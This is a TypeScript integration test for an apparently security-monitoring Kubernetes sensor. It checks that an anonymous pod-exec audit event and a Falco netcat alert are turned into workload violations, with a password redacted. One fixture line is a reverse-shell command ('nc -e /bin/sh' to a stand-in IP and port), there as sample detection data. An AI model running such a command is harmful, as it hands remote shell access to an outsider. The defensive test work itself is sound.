import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { BearerClient } from '@breakwater/daemon';
import { waitFor } from '@breakwater/testkit';
import { expect, it, onTestFinished } from 'vitest';
import { ROLE_CA_FILE } from './roles/role-certificate.ts';
import { createFolder } from './testing/folder.ts';
import { runSensor, startEdge } from './testing/run-sensor.ts';

const CONTAINER = 'ab'.repeat(32);
const MANIFESTS = `
apiVersion: apps/v1
kind: Deployment
metadata: { name: web, namespace: shop, uid: d }
spec:
  selector: { matchLabels: { app: web } }
  template: { metadata: { labels: { app: web } }, spec: { containers: [{ name: app, image: shop/web:1 }] } }
---
apiVersion: v1
kind: Pod
metadata:
  name: web-1
  namespace: shop
  uid: p1
  ownerReferences: [{ apiVersion: apps/v1, kind: Deployment, name: web, uid: d, controller: true }]
spec: { containers: [{ name: app, image: shop/web:1 }] }
status: { containerStatuses: [{ name: app, containerID: 'containerd://${CONTAINER}' }] }
`;
const TIME = new Date().toISOString();
const EXEC = {
  kind: 'Event',
  apiVersion: 'audit.k8s.io/v1',
  auditID: 'a1',
  stage: 'ResponseComplete',
  stageTimestamp: TIME,
  verb: 'get',
  user: { username: 'system:anonymous', groups: ['system:unauthenticated'] },
  annotations: { 'authorization.k8s.io/decision': 'allow' },
  objectRef: { resource: 'pods', subresource: 'exec', namespace: 'shop', name: 'web-1', apiVersion: 'v1' },
  responseStatus: { code: 101 },
};
const SHELL = {
  hostname: 'node-a',
  priority: 'Critical',
  rule: 'Netcat',
  source: 'syscall',
  time: TIME,
  output_fields: {
    'container.id': CONTAINER.slice(0, 12),
    'evt.type': 'execve',
    'proc.name': 'nc',
    'proc.exepath': '/usr/bin/nc',
    'proc.cmdline': 'nc -e /bin/sh 203.0.113.7 4444 --password=hunter2',
  },
};

it('what the API server and Falco recorded is a violation of the workload it is of, and reaches the server', async () => {
  const edge = await startEdge();
  const [dataDir, secrets, folder] = [createFolder(), createFolder(), createFolder()];
  writeFileSync(join(secrets, 'kube-apiserver'), 's'.repeat(40));
  writeFileSync(join(folder, 'shop.yaml'), MANIFESTS);
  const options = { dataDir, joinToken: async () => edge.joinToken, eventPort: { port: 0, secrets } };
  const sensor = await runSensor({ type: 'folder', name: 'shop', paths: [folder] }, options);
  await sensor.synced;
  const [caFile, tokenFile] = [join(dataDir, 'roles', ROLE_CA_FILE), join(secrets, 'kube-apiserver')];
  const client = new BearerClient({ url: sensor.eventUrl ?? '', caFile, tokenFile });
  onTestFinished(() => client.close());
  const post = async (value: unknown) =>
    (await client.ask('POST', '/events', { body: JSON.stringify(value), maxBytes: 100_000, timeoutMs: 10_000 })).value;

  expect(await post({ kind: 'EventList', apiVersion: 'audit.k8s.io/v1', items: [EXEC] })).toMatchObject({ taken: 1, refused: 0 });
  expect(await post(SHELL)).toMatchObject({ taken: 1, refused: 0 });
  await waitFor('the events', () => edge.events.length === 2);
  const place = { cluster: 'file:shop', namespace: 'shop', pod: 'web-1', workload: 'Deployment/web' };
  expect(edge.events).toMatchObject([
    { body: { ...place, source: 'kube-audit' } },
    { body: { ...place, container: 'app', source: 'falco' } },
  ]);

  const find = (id: string) => edge.list('violation').find(({ body }) => body.results.some(({ policy }) => policy === id))?.body.results[0];
  const target = { cluster: 'file:shop', kind: 'Deployment', namespace: 'shop', name: 'web' };
  await waitFor('both violations', () => find('audit-anonymous-allowed') !== undefined && find('relay-runs-shell') !== undefined);
  expect([find('audit-anonymous-allowed'), find('relay-runs-shell')]).toMatchObject([{ target }, { target, container: 'app' }]);
  expect(JSON.stringify([edge.events, edge.list('violation')])).not.toContain('hunter2');

  expect(await post({ kind: 'Pod' })).toMatchObject({ taken: 0, refused: 1 });
  const findProblem = () => edge.list('problem').find(({ body }) => body.code === 'records-refused')?.body;
  await waitFor('the problem', () => findProblem() !== undefined);
  expect(findProblem()?.source).toBe('events/kube-apiserver');
});
